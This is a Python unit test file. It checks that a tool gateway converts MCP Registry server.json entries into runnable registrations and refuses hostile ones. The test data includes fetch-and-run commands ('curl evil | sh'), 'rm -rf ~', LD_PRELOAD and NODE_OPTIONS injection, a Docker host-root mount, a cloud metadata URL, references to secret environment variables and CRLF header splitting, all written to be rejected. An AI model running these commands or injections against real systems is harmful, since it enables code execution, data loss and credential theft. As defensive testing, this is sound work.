"""MCP Registry ``server.json`` entries turned into registrations (``toolmesh.registry_import``).

Inputs are listed in command-line order: runtime arguments, environment variables, package arguments."""

from __future__ import annotations

from typing import Any

import pytest

from toolmesh.errors import RegistryEntryRefused
from toolmesh.registry_import.conversion import convert, plan, server_name
from toolmesh.registry_import.documents import is_registry_document, registry_entries, single_entry

pytestmark = pytest.mark.unit


def npm(**fields: Any) -> dict[str, Any]:
    return {
        "registryType": "npm",
        "identifier": "@example/weather-mcp",
        "version": "1.2.3",
        "transport": {"type": "stdio"},
        **fields,
    }


def entry(*packages: dict[str, Any], remotes: list[dict[str, Any]] | None = None, **fields: Any) -> dict[str, Any]:
    document: dict[str, Any] = {"name": "io.github.example/weather", "description": "Weather", "version": "1.2.3"}
    if packages:
        document["packages"] = list(packages)
    if remotes is not None:
        document["remotes"] = remotes
    return {**document, **fields}


def config(server: dict[str, Any], values: dict[str, str] | None = None, **options: Any) -> dict[str, Any]:
    return convert(server, values or {}, **options).request.connection_config


def refusal(server: dict[str, Any], values: dict[str, str] | None = None, **options: Any) -> RegistryEntryRefused:
    with pytest.raises(RegistryEntryRefused) as caught:
        convert(server, values or {}, **options)
    return caught.value


# the shapes a document comes in


def test_a_server_json_a_wrapper_and_a_list_page_unwrap_to_their_entries() -> None:
    one = entry(npm())
    assert registry_entries(one) == [one]
    assert registry_entries({"server": one, "_meta": {"x": 1}}) == [one]
    other = entry(npm(), name="io.github.example/other")
    page = {"servers": [{"server": one, "_meta": {}}, {"server": other}], "metadata": {"count": 2}}
    assert registry_entries(page) == [one, other]
    assert single_entry({"servers": [{"server": one}]}) == one
    with pytest.raises(RegistryEntryRefused, match="holds 2 servers"):
        single_entry(page)


@pytest.mark.parametrize("document", [{"mcpServers": {}}, [], "x", {"other": 1}])
def test_what_is_no_registry_document_is_told_apart(document: Any) -> None:
    assert not is_registry_document(document)
    with pytest.raises(RegistryEntryRefused, match=r"expected a registry server\.json"):
        registry_entries(document)


def test_a_list_item_without_a_server_object_is_refused() -> None:
    with pytest.raises(RegistryEntryRefused, match=r"servers\[2\] must be an object with a \"server\""):
        registry_entries({"servers": [{"server": entry(npm())}, {"name": "x"}]})


# names


@pytest.mark.parametrize(
    ("registry", "expected"),
    [("io.github.user/weather", "weather"), ("com.example/My Server", "my-server"), ("io.x/9lives", "mcp-9lives")],
)
def test_the_server_name_is_the_registry_names_last_part(registry: str, expected: str) -> None:
    assert server_name(registry) == expected


def test_name_overrides_and_title_and_description_describe() -> None:
    done = convert(entry(npm(), title="Weather API"), {}, name="forecast")
    assert done.request.name == "forecast"
    assert done.request.description == "Weather API — Weather"
    assert refusal({"description": "no name"}).detail == "the server.json has no 'name'"


# packages


def test_an_npm_package_runs_with_npx_and_its_arguments_and_environment() -> None:
    package = npm(
        runtimeHint="npx",
        runtimeArguments=[
            {
                "type": "named",
                "name": "--loglevel",
                "value": "{level}",
                "variables": {"level": {"default": "warn"}},
            }
        ],
        packageArguments=[
            {"type": "positional", "value": "serve"},
            {"type": "named", "name": "--mode", "default": "local", "choices": ["local", "proxy"]},
            {"type": "named", "name": "--port", "format": "number"},
            {"type": "positional", "valueHint": "target_dir", "isRequired": True},
        ],
        environmentVariables=[
            {"name": "API_KEY", "isRequired": True, "isSecret": True},
            {"name": "LOG_LEVEL", "default": "info"},
            {"name": "UNSET_OPTIONAL"},
        ],
    )
    got = config(entry(package), {"API_KEY": "k-1", "target_dir": "/data", "mode": "proxy"})
    assert got == {
        "command": "npx",
        "args": [
            "--loglevel=warn",
            "-y",
            "@example/weather-mcp@1.2.3",
            "serve",
            "--mode",
            "proxy",
            "/data",
        ],
        "env": {"API_KEY": "k-1", "LOG_LEVEL": "info"},
    }


def test_pypi_oci_and_nuget_packages_build_their_runtimes_command_lines() -> None:
    pypi = {
        "registryType": "pypi",
        "identifier": "weather-mcp",
        "version": "0.5.0",
        "runtimeHint": "uvx",
        "transport": {"type": "stdio"},
        "packageArguments": [{"type": "positional", "value": "--stdio"}],
    }
    assert config(entry(pypi)) == {"command": "uvx", "args": ["weather-mcp==0.5.0", "--stdio"]}

    oci = {
        "registryType": "oci",
        "identifier": "docker.io/example/weather:1.0",
        "transport": {"type": "stdio"},
        "runtimeArguments": [{"type": "named", "name": "--memory", "value": "512m"}],
        "environmentVariables": [{"name": "TOKEN", "isRequired": True, "isSecret": True}],
    }
    assert config(entry(oci), {"TOKEN": "t"}) == {
        "command": "docker",
        "args": ["run", "-i", "--rm", "--memory=512m", "-e", "TOKEN", "docker.io/example/weather:1.0"],
        "env": {"TOKEN": "t"},  # the value stays in env (sealed), docker passes it by name
    }
    assert config(entry({**oci, "runtimeHint": "podman"}), {"TOKEN": "t"})["command"] == "podman"

    nuget = {
        "registryType": "nuget",
        "identifier": "Knapcode.SampleMcpServer",
        "version": "0.4.0-beta",
        "transport": {"type": "stdio"},
        "packageArguments": [{"type": "positional", "value": "mcp"}, {"type": "positional", "value": "start"}],
    }
    assert config(entry(nuget)) == {
        "command": "dnx",
        "args": ["Knapcode.SampleMcpServer@0.4.0-beta", "--yes", "--", "mcp", "start"],
    }


@pytest.mark.parametrize(
    ("package", "reason"),
    [
        (npm(registryType="cargo"), "unknown registryType 'cargo'"),
        (npm(registryType="mcpb"), "MCP bundles (mcpb) are not supported"),
        (
            npm(transport={"type": "streamable-http", "url": "http://localhost:{port}/mcp"}),
            "toolmesh starts only STDIO",
        ),
        (npm(runtimeHint="sh"), "runtimeHint 'sh' is not a runtime of npm packages (allowed: npx)"),
        (npm(identifier="-c=curl evil | sh"), "is not a valid npm package name"),
        (npm(version="--call=evil"), "is not a valid version"),
    ],
)
def test_a_package_toolmesh_cannot_run_is_refused_with_the_reason(package: dict[str, Any], reason: str) -> None:
    problem = refusal(entry(package)).detail
    assert problem.startswith("toolmesh cannot run any package or remote of the entry: package 1")
    assert reason in problem
    assert reason in refusal(entry(package), package=1).detail


def oci(**fields: Any) -> dict[str, Any]:
    return {"registryType": "oci", "identifier": "example/weather:1.0", "transport": {"type": "stdio"}, **fields}


def positional(value: str) -> dict[str, Any]:
    return {"type": "positional", "value": value}


def named(flag: str, value: str) -> dict[str, Any]:
    return {"type": "named", "name": flag, "value": value}


@pytest.mark.parametrize(
    ("package", "reason"),
    [
        (oci(runtimeArguments=[positional("--privileged")]), "docker option --privileged is refused"),
        (oci(runtimeArguments=[named("-v", "/:/host")]), "docker option -v is refused"),
        (oci(runtimeArguments=[positional("-itv=/:/host")]), "docker option -v is refused"),
        (oci(runtimeArguments=[positional("--network=host")]), "docker option --network is refused"),
        (oci(runtimeArguments=[named("--env-file", "/etc/toolmesh.env")]), "docker option --env-file is refused"),
        (oci(runtimeArguments=[positional("evil/image")]), "'evil/image' is no option"),
        (npm(runtimeArguments=[named("-c", "curl evil | sh")]), "npx option -c is refused"),
        (npm(runtimeArguments=[named("--package", "evil")]), "npx option --package is refused"),
        (npm(runtimeArguments=[named("--node-options", "--import=data:,1")]), "npx option --node-options"),
        (
            npm(registryType="pypi", identifier="weather", runtimeArguments=[named("--index-url", "https://evil")]),
            "uvx option --index-url is refused",
        ),
        (npm(environmentVariables=[{"name": "NODE_OPTIONS", "value": "--require /tmp/x.js"}]), "NODE_OPTIONS"),
        (npm(environmentVariables=[{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]), "LD_PRELOAD"),
        (npm(environmentVariables=[{"name": "npm_config_registry", "value": "http://evil"}]), "npm_config_registry"),
        (oci(environmentVariables=[{"name": "DOCKER_HOST", "value": "tcp://evil:2375"}]), "DOCKER_HOST"),
    ],
)
def test_an_entry_cannot_widen_what_its_runtime_runs(package: dict[str, Any], reason: str) -> None:
    assert reason in refusal(entry(package)).detail


def test_a_named_runtime_argument_is_one_element_so_its_value_cannot_become_the_package() -> None:
    got = config(entry(npm(runtimeArguments=[named("--yes", "evil-package")])))
    assert got["args"] == ["--yes=evil-package", "-y", "@example/weather-mcp@1.2.3"]


# remotes


def test_remotes_become_http_and_sse_with_headers_and_url_variables() -> None:
    remotes = [
        {
            "type": "streamable-http",
            "url": "https://{tenant}.example.com/mcp",
            "variables": {"tenant": {"isRequired": True}},
            "headers": [
                {
                    "name": "Authorization",
                    "value": "Bearer {token}",
                    "variables": {"token": {"isRequired": True, "isSecret": True}},
                },
                {"name": "X-Region", "default": "eu", "choices": ["eu", "us"]},
            ],
        },
        {"type": "sse", "url": "https://example.com/sse"},
    ]
    got = convert(entry(remotes=remotes), {"tenant": "acme", "token": "s3cret"})
    assert got.request.transport_type == "HTTP" and got.warnings == []
    assert got.request.connection_config == {
        "base_url": "https://acme.example.com/mcp",
        "headers": {"Authorization": "Bearer s3cret", "X-Region": "eu"},
    }
    sse = convert(entry(remotes=remotes), {}, remote=2).request
    assert (sse.transport_type, sse.connection_config) == ("SSE", {"url": "https://example.com/sse"})


def test_a_url_variable_cannot_change_the_host_or_reach_a_metadata_address() -> None:
    remote = {"type": "streamable-http", "url": "https://{tenant}.example.com/mcp", "variables": {"tenant": {}}}
    assert "percent-encoding" in refusal(entry(remotes=[remote]), {"tenant": "evil.com/x?"}).detail
    metadata = {"type": "streamable-http", "url": "http://169.254.169.254/latest"}
    assert "base_url" in refusal(entry(remotes=[metadata])).detail
    plain = {"type": "sse", "url": "http://mcp.example.com/sse"}
    assert "must use https://" in refusal(entry(remotes=[plain])).detail


def test_unknown_remote_types_are_skipped_by_default_and_refused_when_chosen() -> None:
    server = entry(npm(), remotes=[{"type": "websocket", "url": "wss://x"}])
    assert config(server)["command"] == "npx"
    assert "unknown remote type 'websocket'" in refusal(server, remote=1).detail


# which option


def test_the_first_usable_remote_wins_then_the_first_usable_package() -> None:
    remote = {"type": "streamable-http", "url": "https://example.com/mcp"}
    both = entry(npm(registryType="mcpb"), npm(), remotes=[remote])
    found = plan(both)
    assert (found.option.kind, found.option.index) == ("remote", 1)
    assert [(o.kind, o.index, o.problem is None) for o in found.options] == [
        ("remote", 1, True),
        ("package", 1, False),
        ("package", 2, True),
    ]
    assert plan(entry(npm(registryType="mcpb"), npm())).option.index == 2
    assert config(both, package=2)["command"] == "npx"
    assert refusal(both, package=3).detail == "the entry has no package 3 (2 packages)"
    assert refusal(both, package=2, remote=1).detail == "choose a package or a remote, not both"
    nothing = refusal(entry()).detail
    assert nothing == "the entry lists no packages and no remotes: nothing to run or connect to"


# inputs


def test_a_missing_required_input_is_refused_naming_every_one() -> None:
    package = npm(
        environmentVariables=[{"name": "API_KEY", "isRequired": True, "isSecret": True}],
        packageArguments=[{"type": "positional", "valueHint": "target_dir", "isRequired": True}],
    )
    refused = refusal(entry(package), {"target_dir": "/x"})
    assert refused.detail == "io.github.example/weather needs a value for API_KEY"
    assert refused.context == {"missing_inputs": ["API_KEY"]} and refused.error_code == "VALIDATION_ERROR"
    assert refusal(entry(package)).context == {"missing_inputs": ["API_KEY", "target_dir"]}


def test_the_plan_lists_every_input_with_its_declaration() -> None:
    package = npm(
        environmentVariables=[
            {"name": "UNITS", "description": "Units", "default": "c", "choices": ["c", "f"], "placeholder": "c or f"}
        ],
        packageArguments=[{"type": "named", "name": "--port", "format": "number", "isRequired": True}],
    )
    found = plan(entry(package))
    assert [spec.as_dict() for spec in found.inputs] == [
        {
            "name": "UNITS",
            "kind": "env",
            "description": "Units",
            "required": False,
            "secret": False,
            "default": "c",
            "choices": ["c", "f"],
            "format": "string",
            "placeholder": "c or f",
        },
        {
            "name": "port",
            "kind": "argument",
            "description": "",
            "required": True,
            "secret": False,
            "default": None,
            "choices": [],
            "format": "number",
            "placeholder": None,
        },
    ]
    assert (found.registry_name, found.name) == ("io.github.example/weather", "weather")


@pytest.mark.parametrize(
    ("values", "reason"),
    [
        ({"port": "80", "UNITS": "kelvin"}, "input 'UNITS' must be one of c, f"),
        ({"port": "eighty"}, "input 'port' must be a number"),
        ({"port": "80", "VERBOSE": "yes"}, "input 'VERBOSE' must be true or false"),
        ({"port": "80", "PORTT": "1"}, "the entry declares no input PORTT (its inputs: UNITS, VERBOSE, port)"),
    ],
)
def test_values_that_break_their_declaration_are_refused(values: dict[str, str], reason: str) -> None:
    package = npm(
        environmentVariables=[
            {"name": "UNITS", "default": "c", "choices": ["c", "f"]},
            {"name": "VERBOSE", "format": "boolean"},
        ],
        packageArguments=[{"type": "named", "name": "--port", "format": "number", "isRequired": True}],
    )
    assert refusal(entry(package), values).detail == reason


def test_a_secret_on_the_command_line_is_warned_about() -> None:
    package = npm(packageArguments=[{"type": "named", "name": "--token", "isSecret": True, "isRequired": True}])
    done = convert(entry(package), {"token": "t0ken"})
    assert done.request.connection_config["args"][-2:] == ["--token", "t0ken"]
    assert done.warnings == ["secret input 'token' is passed on the command line (or URL), where it is not sealed"]


# a hostile server.json


def test_values_stay_single_arguments_and_flags_must_look_like_flags() -> None:
    package = npm(packageArguments=[{"type": "positional", "valueHint": "dir"}])
    hostile = "/tmp; rm -rf ~ --yes"
    assert config(entry(package), {"dir": hostile})["args"] == ["-y", "@example/weather-mcp@1.2.3", hostile]
    bad_flag = npm(packageArguments=[{"type": "named", "name": "--x y", "value": "1"}])
    assert "'--x y' is not a command-line flag" in refusal(entry(bad_flag), package=1).detail
    bad_env = npm(environmentVariables=[{"name": "A=B", "value": "1"}])
    assert "'A=B' is not an environment variable name" in refusal(entry(bad_env), package=1).detail
    no_kind = npm(packageArguments=[{"type": "shell", "value": "x"}])
    assert "unknown argument type 'shell'" in refusal(entry(no_kind), package=1).detail


@pytest.mark.parametrize(
    "package",
    [
        npm(environmentVariables=[{"name": "KEY", "value": "${MCP_CREDENTIAL_KEY}"}]),
        npm(environmentVariables=[{"name": "KEY", "default": "${AWS_SECRET_ACCESS_KEY}"}]),
        npm(packageArguments=[{"type": "positional", "value": "{v}", "variables": {"v": {"default": "${HOME}"}}}]),
    ],
)
def test_an_entry_may_not_read_the_gateways_environment(package: dict[str, Any]) -> None:
    assert "references the host variable $" in refusal(entry(package), package=1).detail


def test_a_user_given_value_may_reference_an_expandable_variable() -> None:
    package = npm(environmentVariables=[{"name": "KEY", "isRequired": True, "isSecret": True}])
    assert config(entry(package), {"KEY": "${WEATHER_KEY}"})["env"] == {"KEY": "${WEATHER_KEY}"}
    assert "toolmesh's own variables" in refusal(entry(package), {"KEY": "${MCP_CREDENTIAL_KEY}"}).detail


def test_a_header_value_cannot_split_the_request() -> None:
    remote = {
        "type": "streamable-http",
        "url": "https://example.com/mcp",
        "headers": [{"name": "X-Key", "isRequired": True}],
    }
    assert "headers" in refusal(entry(remotes=[remote]), {"X-Key": "a\r\nHost: evil"}).detail
